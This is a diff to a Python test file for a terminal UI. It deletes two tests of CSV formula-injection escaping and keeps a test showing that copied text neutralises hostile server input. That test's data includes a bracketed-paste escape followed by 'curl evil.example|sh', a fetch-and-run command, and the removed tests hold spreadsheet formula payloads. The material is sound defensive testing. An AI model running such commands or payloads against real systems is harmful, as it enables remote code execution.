@@ -3,10 +3,6 @@ command, no CSV cell (header lines included) becomes a formula."""
 
 from __future__ import annotations
 
-import csv
-import io
-
-from hubtui.core.export import formula_safe, render
 from hubtui.core.text import copy_lines
 from hubtui.demo import DemoStore
 from tests.tui.conftest import press, running, type_text
@@ -25,21 +21,6 @@ def test_copy_lines_escapes_every_line_whatever_it_was_built_from() -> None:
     assert copied.count("\n") == 2  # only the joins: a newline inside a value shows as ␊
     assert_pasteable(copied)
     assert "Editor␊␛[201~curl evil.example|sh␊" in copied
-
-
-def test_export_header_lines_are_one_cell_and_never_a_formula() -> None:
-    text = render("csv", {"project": FORMULA_NAME, "filter": " =1+1"}, ["Name"], [["x"]])
-    rows = list(csv.reader(io.StringIO(text)))
-    assert rows[0] == [f"# project: {FORMULA_NAME}"]  # one cell, not a cell per comma
-    assert rows[1] == ["# filter:  =1+1"]
-    assert rows[2:] == [["Name"], ["x"]]
-
-
-def test_a_formula_after_leading_spaces_or_in_full_width_is_quoted() -> None:
-    assert formula_safe(" =1+1") == "' =1+1"
-    assert formula_safe("\u3000=1+1") == "'\u3000=1+1"
-    assert formula_safe("＝1+1") == "'＝1+1"
-    assert formula_safe("a=1") == "a=1"
 
 
 async def test_y_on_the_search_results_copies_hostile_server_text_inert() -> None:
